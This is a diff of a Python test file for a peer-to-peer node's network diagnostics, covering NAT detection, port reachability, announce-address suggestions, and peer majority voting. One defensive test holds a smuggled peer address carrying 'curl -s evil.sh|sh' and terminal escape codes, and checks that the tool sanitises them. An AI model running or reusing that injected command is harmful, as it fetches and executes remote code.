@@ -24,13 +24,18 @@ def test_exit_1_only_when_a_check_failed():
 
 def test_nat_is_unknown_and_said_so_and_private_addresses_are_a_warning():
     private = ["/ip4/192.168.1.5/tcp/4001/p2p/12D3KooWx", "/ip4/127.0.0.1/tcp/4001/p2p/12D3KooWx"]
-    c = nat_check(private, "hivemind", announced=False, use_relay=True)
-    assert c.status == "warn" and c.found.startswith("unknown: hivemind's p2pd does not report") and "relay" in c.found
-    assert "--swarm.announce_maddrs" in c.fix
-    public = nat_check(["/ip4/93.184.216.34/tcp/4001"], "libp2p", announced=False, use_relay=False)
+    c = nat_check(private, "hivemind", announced=False, behind_nat=False)
+    assert c.status == "warn" and c.found.startswith("unknown: hivemind's p2pd does not report")
+    assert "without --swarm.behind_nat, peers outside this network cannot reach it" in c.found
+    assert "--swarm.announce_maddrs" in c.fix and "--swarm.behind_nat true" in c.fix
+    relayed = nat_check(private, "hivemind", announced=False, behind_nat=True)
+    assert "through the bootstrap peers' relay" in relayed.found and "--swarm.behind_nat true" not in relayed.fix
+    lib = nat_check(private, "libp2p", announced=False, behind_nat=False)  # no relay there: not offered
+    assert "this carrier has no relay" in lib.found and "behind_nat" not in lib.fix
+    public = nat_check(["/ip4/93.184.216.34/tcp/4001"], "libp2p", announced=False, behind_nat=False)
     assert public.status == "ok" and "py-libp2p's host runs no AutoNAT" in public.found
-    assert nat_check(private, "hivemind", announced=True, use_relay=False).status == "ok"
-    assert nat_check([], "mqtt", announced=False, use_relay=False).status == "ok"
+    assert nat_check(private, "hivemind", announced=True, behind_nat=False).status == "ok"
+    assert nat_check([], "mqtt", announced=False, behind_nat=False).status == "ok"
     assert "loopback/private" in address_check(private, "hivemind").found
     assert address_check([], "hivemind").status == "warn"
 
@@ -46,7 +51,7 @@ LISTENING = ["/ip4/192.168.1.5/tcp/31338/p2p/12D3KooWx"]
 
 def test_a_dial_back_that_reached_the_port_says_so_and_where_the_peer_saw_this_node():
     direct = Reach("12D3KooWBootstrapPeer", 31338, "/ip4/192.168.1.5/tcp/52044", "192.168.1.5:31338", True, "")
-    nat, reach = reach_checks([direct], LISTENING, use_relay=True)
+    nat, reach = reach_checks([direct], LISTENING, behind_nat=False)
     assert nat.status == "ok" and nat.found.startswith("none between this node and peer 12D3KooWBootstrap")
     assert reach.status == "ok" and "port 31338 is reachable" in reach.found and "192.168.1.5:31338" in reach.found
 
@@ -54,57 +59,61 @@ def test_a_dial_back_that_reached_the_port_says_so_and_where_the_peer_saw_this_n
 def test_behind_nat_with_the_port_closed_says_what_to_forward_and_announce():
     shut = Reach("12D3KooWBootstrapPeer", 31338, "/ip4/203.0.113.9/tcp/61002", "203.0.113.9:31338", False,
                  "no answer in 3 s (a firewall or NAT drops it)")
-    nat, reach = reach_checks([shut], LISTENING, use_relay=True)
+    nat, reach = reach_checks([shut], LISTENING, behind_nat=False)
     assert nat.status == "ok" and "behind NAT" in nat.found and "/ip4/203.0.113.9/tcp/61002" in nat.found
     assert "192.168.1.5 port 31338" in nat.found
-    assert reach.status == "warn" and "not reachable" in reach.found and "through a relay" in reach.found
+    assert reach.status == "warn" and "not reachable" in reach.found and "without --swarm.behind_nat" in reach.found
     assert "forward TCP port 31338 on the router to this machine (192.168.1.5 port 31338)" in reach.fix
+    assert "if no port can be forwarded, join with --swarm.behind_nat true" in reach.fix
+    _, relayed = reach_checks([shut], LISTENING, behind_nat=True)
+    assert "swarm.behind_nat is on: peers reach it through the bootstrap peers' relay" in relayed.found
+    assert "--swarm.behind_nat true" not in relayed.fix
     assert '"/ip4/203.0.113.9/tcp/31338"' in reach.fix and "fix the port first" in reach.fix
     with_loopback = LISTENING + ["/ip4/127.0.0.1/tcp/31338/p2p/12D3KooWx"]
-    _, fixed = reach_checks([shut], with_loopback, use_relay=False, fixed_port=True)
+    _, fixed = reach_checks([shut], with_loopback, behind_nat=False, fixed_port=True)
     assert "(192.168.1.5 port 31338)" in fixed.fix and "fix the port first" not in fixed.fix
     assert "peers outside this network cannot reach it" in fixed.found
     # No NAT, the port closed: the firewall is the place.
     firewalled = Reach("12D3KooWBootstrapPeer", 31338, "/ip4/192.168.1.5/tcp/52044", "192.168.1.5:31338", False,
                        "connection refused")
-    assert "ufw allow 31338/tcp" in reach_checks([firewalled], LISTENING, use_relay=False)[1].fix
+    assert "ufw allow 31338/tcp" in reach_checks([firewalled], LISTENING, behind_nat=False)[1].fix
 
 
 def test_a_forwarded_port_not_announced_is_reachable_but_peers_do_not_learn_it():
     forwarded = Reach("12D3KooWBootstrapPeer", 31338, "/ip4/203.0.113.9/tcp/31338", "203.0.113.9:31338", True, "")
-    _, reach = reach_checks([forwarded], LISTENING, use_relay=True)
+    _, reach = reach_checks([forwarded], LISTENING, behind_nat=False)
     assert reach.status == "warn" and "is reachable" in reach.found and "does not give peers that address" in reach.found
     assert reach.fix.startswith("announce it: --swarm.announce_maddrs '[\"/ip4/203.0.113.9/tcp/31338\"]'")
     announced = ["/ip4/203.0.113.9/tcp/31338/p2p/12D3KooWx"]  # what the transport gives peers once announced
-    nat, reach = reach_checks([forwarded], announced, use_relay=True, announced=True)
+    nat, reach = reach_checks([forwarded], announced, behind_nat=False, announced=True)
     assert reach.status == "ok" and nat.found.endswith("saw this node at 203.0.113.9, the address it announces "
                                                        "(swarm.announce_maddrs)")
 
 
 def test_with_no_dial_back_answer_reachability_is_unknown_and_said_so():
     old = Reach("12D3KooWBootstrapPeer", 31338, why="could not ask (P2PHandlerError): a bootstrap older than dial-back")
-    nat, reach = reach_checks([old], LISTENING, use_relay=True)
+    nat, reach = reach_checks([old], LISTENING, behind_nat=False)
     assert nat.found.startswith("unknown") and reach.status == "warn" and reach.found.startswith("unknown")
     assert "older than dial-back" in reach.found
-    assert "no peer to ask" in reach_checks([], LISTENING, use_relay=True)[1].found
+    assert "no peer to ask" in reach_checks([], LISTENING, behind_nat=False)[1].found
 
 
 def test_a_peers_made_up_address_and_escapes_never_reach_the_suggested_command_or_the_terminal():
     evil = Reach("QmBoot", 4001, observed="/ip4/1.2.3.4\"]'; curl -s evil.sh|sh; echo '/tcp/4001", dialed="",
                  reachable=False, why="\x1b[32mok\x1b[0m")
-    lines = [render(c) for c in reach_checks([evil], LISTENING, use_relay=False, fixed_port=True)]
+    lines = [render(c) for c in reach_checks([evil], LISTENING, behind_nat=False, fixed_port=True)]
     assert not any("curl" in line or "\x1b" in line for line in lines), lines
     assert lines[1].startswith("warn  reachable  unknown: no peer answered") and "?[32mok?[0m" in lines[1]
     assert "\x1b" not in render(Check("reachable", "warn", "\x1b[2Jx", "\x1b]0;title\x07"))
     # A parseable address is quoted as a shell word, whatever it is.
     odd = Reach("QmBoot", 4001, "/ip4/203.0.113.9/tcp/4001", "203.0.113.9:4001", False, "refused")
-    fix = reach_checks([odd], LISTENING, use_relay=False, fixed_port=True)[1].fix
+    fix = reach_checks([odd], LISTENING, behind_nat=True, fixed_port=True)[1].fix
     assert fix.endswith("announce it: --swarm.announce_maddrs '[\"/ip4/203.0.113.9/tcp/4001\"]'")
 
 
 def test_an_ipv6_address_is_suggested_as_ip6():
     v6 = Reach("QmBoot", 4001, "/ip6/2001:db8::1/tcp/4001", "[2001:db8::1]:4001", True, "")
-    _, reach = reach_checks([v6], LISTENING, use_relay=False, fixed_port=True)
+    _, reach = reach_checks([v6], LISTENING, behind_nat=False, fixed_port=True)
     assert "dialed [2001:db8::1]:4001" in reach.found
     assert "--swarm.announce_maddrs '[\"/ip6/2001:db8::1/tcp/4001\"]'" in reach.fix and "/ip4/2001" not in reach.fix
 
@@ -113,14 +122,14 @@ def test_the_majority_of_answering_peers_decides_reachability_and_the_line_says_
     def seen(peer: str, ok: bool) -> Reach:
         return Reach(peer, 31338, "/ip4/203.0.113.9/tcp/61002", "203.0.113.9:31338", ok, "" if ok else "connection refused")
 
-    _, one_liar = reach_checks([seen("QmA", False), seen("QmLiar", True), seen("QmB", False)], LISTENING, use_relay=True)
+    _, one_liar = reach_checks([seen("QmA", False), seen("QmLiar", True), seen("QmB", False)], LISTENING, behind_nat=False)
     assert "not reachable from peer QmA (2 of 3 peer(s) that answered agree)" in one_liar.found
-    _, most = reach_checks([seen("QmA", True), seen("QmB", True), seen("QmC", False)], LISTENING, use_relay=True)
+    _, most = reach_checks([seen("QmA", True), seen("QmB", True), seen("QmC", False)], LISTENING, behind_nat=False)
     assert "is reachable: peer QmA" in most.found and "(2 of 3 peer(s) that answered agree)" in most.found
-    _, tie = reach_checks([seen("QmA", True), seen("QmB", False)], LISTENING, use_relay=True)
+    _, tie = reach_checks([seen("QmA", True), seen("QmB", False)], LISTENING, behind_nat=False)
     assert "not reachable from peer QmB (1 of 2" in tie.found  # a tie asks the user to check
     unanswered = Reach("QmGone", 31338, why="no answer")
-    _, partial = reach_checks([unanswered, seen("QmA", True)], LISTENING, use_relay=True)
+    _, partial = reach_checks([unanswered, seen("QmA", True)], LISTENING, behind_nat=False)
     assert "(1 of 1 peer(s) that answered agree)" in partial.found
 
 
